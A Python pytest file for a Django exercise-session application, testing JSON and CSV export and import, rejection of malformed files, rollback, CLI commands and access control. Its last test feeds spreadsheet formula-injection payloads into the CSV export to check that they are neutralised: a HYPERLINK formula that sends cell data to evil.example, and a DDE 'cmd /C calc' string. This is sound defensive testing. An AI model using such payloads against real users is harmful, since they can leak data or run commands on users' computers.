"""Exports: JSON that re-imports to the same file and the same replay, CSV, the CLI."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import translation

from rehearsal.in_process import rehearse
from scenarios.models import Scenario, ScenarioVersion
from sessions import engine, exports, replay
from sessions.models import AuditEntry, Event, Seat, Session
from tests.sessions.review_helpers import (  # noqa: F401 - fresh_caches is a fixture
    add_objective,
    fresh_caches,
    play_script,
    seat_everyone,
)

pytestmark = pytest.mark.django_db

FIXTURE = Path(__file__).resolve().parents[2] / "fixtures" / "scenarios" / "nigerian-minors"


@pytest.fixture
def played(session, boss, wall, live_version):
    add_objective(live_version, "obj", "Repérer la minorité")
    play_script(session, boss, seat_everyone(session), wall)
    session.refresh_from_db()
    return session


def screens(session, *, attachments: bool = False) -> dict[str, dict[int, dict[str, str]]]:
    """Every perspective's regions at a few moments, with this session's ids named
    (`attachments`: scenario attachment ids too, which a new installation renumbers)."""
    seat_refs = {s.pk: f"{s.role.ident}.{s.number}"
                 for s in Seat.objects.filter(session=session).select_related("role")}

    def named(html: str) -> str:
        html = html.replace(f"/sessions/{session.pk}/", "/sessions/ID/")
        html = re.sub(r"/seats/(\d+)/", lambda m: f"/seats/{seat_refs[int(m[1])]}/", html)
        if attachments:
            html = re.sub(r"/attachments/\d+/", "/attachments/N/", html)
        return re.sub(r'(data-seat|data-seat-id|name="seat" value)="(\d+)"',
                      lambda m: f'{m[1]}="{seat_refs[int(m[2])]}"', html)

    out = {}
    seqs = sorted({1, session.last_seq // 3, session.last_seq // 2, session.last_seq})
    with translation.override("fr"):
        for view in replay.viewpoints(session):
            key = view.token if not view.token.startswith("seat:") else \
                "seat:" + seat_refs[int(view.token[5:])]
            out[key] = {
                seq: {name: named(html) for name, html in
                      replay.frame_at(session, view, seq=seq).regions.items()}
                for seq in seqs
            }
    return out


def test_export_import_export_gives_the_same_file_and_the_same_replay(played, trainer):
    first = exports.dumps(exports.export_session(played))
    assert str(played.pk) not in json.loads(first)["session"].values()
    copy = exports.import_session(exports.loads(first), user=trainer, source_name="x.json")
    assert copy.pk != played.pk and copy.state == Session.State.ENDED
    assert copy.trainer == played.trainer and copy.title == played.title
    assert exports.dumps(exports.export_session(copy)) == first
    assert screens(copy) == screens(played)
    assert AuditEntry.objects.filter(action="session.imported", target_id=str(copy.pk)).exists()


def test_a_fresh_installation_gets_the_scenario_from_the_file(trainer, wall):
    from scenarios.services import scenario_import

    version = scenario_import(source=FIXTURE).version
    session = rehearse(version=version, trainer=trainer, advance=wall.advance, events=400,
                       seed=3)
    data = exports.export_session(session)
    assert data["scenario"]["files"]  # the attachments travel, base64
    text = exports.dumps(data)
    before = screens(session, attachments=True)
    # Forget the session and the scenario, as a new installation would not have them.
    engine.session_delete(session_id=session.pk, user=trainer, confirm_title=session.title)
    slug = version.scenario.slug
    ScenarioVersion.objects.filter(pk=version.pk).delete()
    Scenario.objects.filter(slug=slug).delete()
    copy = exports.import_session(exports.loads(text), user=trainer)
    assert copy.version.scenario.slug == slug
    assert exports.dumps(exports.export_session(copy)) == text
    assert screens(copy, attachments=True) == before
    # The renumbered attachments are the same files, and the links reach them.
    from scenarios.models import Attachment

    for event in Event.objects.filter(session=copy, kind="inject.fired"):
        for a in event.payload["attachments"]:
            found = Attachment.objects.select_related("blob", "inject").get(pk=a["id"])
            assert (found.inject.version_id, found.inject.ident, found.path) == (
                copy.version_id, event.payload["inject"], a["path"])


def test_importing_twice_is_refused_unless_a_copy_is_asked_for(played, trainer):
    data = exports.export_session(played)
    first = exports.import_session(data, user=trainer)
    with pytest.raises(exports.SessionImportError) as err:
        exports.import_session(data, user=trainer)
    assert f"session {first.pk}" in err.value.errors[0]
    again = exports.import_session(data, user=trainer, allow_copy=True)
    assert again.pk not in (first.pk, played.pk)


def _broken(data: dict, how: str) -> dict:
    data = json.loads(json.dumps(data))
    if how == "format":
        data["format"] = "something/9"
    elif how == "running":
        data["session"]["state"] = "running"
    elif how == "gap":
        del data["events"][3]
    elif how == "audience":
        data["events"][5]["audience"] = ["seat:nobody.1"]
    elif how == "actor":
        data["events"][5]["actor"] = "trainer:t99"
    elif how == "hash":
        data["scenario"]["yaml"] += "\n# changed\n"
    elif how == "base64":
        data["blobs"] = {"0" * 64: {"content_type": "text/plain", "data": "***"}}
    elif how == "date":
        data["events"][2]["created_at"] = "yesterday"
    elif how == "surrogate":  # "\ud800" in the file decodes to text nothing can show
        data["events"][4]["payload"]["text"] = json.loads('"hello \\ud800"')
    return data


@pytest.mark.parametrize("how, message", [
    ("format", "format: expected"),
    ("running", "only ended sessions"),
    ("gap", "without gaps"),
    ("audience", "unknown token"),
    ("actor", "unknown actor"),
    ("hash", "content_hash"),
    ("base64", "not base64"),
    ("date", "ISO date-time"),
    ("surrogate", "events[4].payload.text: not valid Unicode text"),
])
def test_a_bad_file_is_refused_whole_with_clear_errors(played, trainer, how, message):
    counts = (Session.objects.count(), Event.objects.count(), ScenarioVersion.objects.count())
    with pytest.raises(exports.SessionImportError) as err:
        exports.import_session(_broken(exports.export_session(played), how), user=trainer)
    assert any(message in e for e in err.value.errors), err.value.errors
    assert counts == (Session.objects.count(), Event.objects.count(),
                      ScenarioVersion.objects.count())


def test_a_late_failure_rolls_back_the_scenario_too(played, trainer):
    """The file's scenario is new here, but its seats do not fit it: nothing stays."""
    from scenarios.format.export import content_hash

    data = exports.export_session(played)
    data["scenario"]["yaml"] = re.sub(r"^slug: .*$", "slug: moved-elsewhere",
                                      data["scenario"]["yaml"], flags=re.M)
    data["scenario"]["content_hash"] = content_hash(data["scenario"]["yaml"], {})
    data["seats"].append({"ref": "police.7", "holder_name": "Fantôme"})
    with pytest.raises(exports.SessionImportError) as err:
        exports.import_session(data, user=trainer)
    assert "police.7" in err.value.errors[0]
    assert not Scenario.objects.filter(slug="moved-elsewhere").exists()


def test_not_json_is_refused():
    with pytest.raises(exports.SessionImportError):
        exports.loads(b"\x89PNG not json")
    with pytest.raises(exports.SessionImportError):
        exports.loads("[1, 2]")


def test_an_unknown_trainer_needs_someone_to_hold_the_session(played, trainer):
    data = exports.export_session(played)
    for t in data["trainers"]:
        t["username"] = "gone-away"
    with pytest.raises(exports.SessionImportError) as err:
        exports.import_session(data)
    assert "--trainer" in err.value.errors[0]
    copy = exports.import_session(data, trainer=trainer)
    assert copy.trainer == trainer


def test_cli_export_then_import(played, tmp_path, capsys, trainer):
    target = tmp_path / "session.json"
    call_command("export_session", str(played.pk), "-o", str(target))
    call_command("import_session", str(target))
    out = capsys.readouterr().out
    assert "imported as session" in out
    copy = Session.objects.exclude(pk=played.pk).get()
    assert exports.dumps(exports.export_session(copy)) == target.read_text(encoding="utf-8")
    with pytest.raises(CommandError, match="not imported"):
        call_command("import_session", str(target))
    assert "already imported" in capsys.readouterr().err
    bad = tmp_path / "bad.json"
    bad.write_text("{}", encoding="utf-8")
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import_session", str(bad))
    with pytest.raises(CommandError, match="no session"):
        call_command("export_session", "999999")


def test_json_and_csv_downloads(trainer_client, played):
    response = trainer_client.get(reverse("sessions:export_json", args=[played.pk]))
    assert response.status_code == 200
    assert json.loads(response.content)["format"] == exports.FORMAT
    assert json.loads(response.content)["notice"] == exports.EXERCISE_NOTICE
    assert "attachment;" in response["Content-Disposition"]
    response = trainer_client.get(reverse("sessions:export_csv", args=[played.pk]))
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[0] == [exports.EXERCISE_NOTICE]  # exercise material, first thing read
    assert rows[1][:5] == ["seq", "horloge", "clock_ms", "created_at", "kind"]
    assert len(rows) == played.last_seq + 2
    message = next(r for r in rows[1:] if r[4] == "message.sent")
    assert "Bonjour, ici le parquet." in message[9]
    assert AuditEntry.objects.filter(action="session.exported", target_id=str(played.pk)) \
        .count() == 2


def test_downloads_are_only_for_whoever_may_steer(client, played):
    for name in ("export_json", "export_csv"):
        assert client.get(reverse(f"sessions:{name}", args=[played.pk])).status_code == 302


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(trainer_client, session, boss):
    """Display names, private notes and safety notes went verbatim into events.csv."""
    evil = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
    police = Seat.objects.get(session=session, role__ident="police")
    engine.seat_claim(session_id=session.pk, seat_id=police.pk, name=evil, pass_key="k-evil")
    who = engine.SeatPrincipal(seat_id=police.pk, pass_key="k-evil")
    engine.session_start(session_id=session.pk, principal=boss)
    engine.note_private(session_id=session.pk, principal=who, text="@SUM(1+1)*cmd|' /C calc'!A0")
    engine.safety_stop(session_id=session.pk, principal=who, note="+1+1")
    engine.note_add(session_id=session.pk, principal=boss, text="-2+3")
    text = trainer_client.get(reverse("sessions:export_csv", args=[session.pk])) \
        .content.decode("utf-8")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r|%"], "a cell would be evaluated"
    assert f"'{evil}" in cells  # the name column, kept readable
    summaries = {row[4]: row[9] for row in rows[2:]}
    assert summaries["note.private"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert summaries["safety.stop"] == "'+1+1"
    assert summaries["note.added"] == "'-2+3"
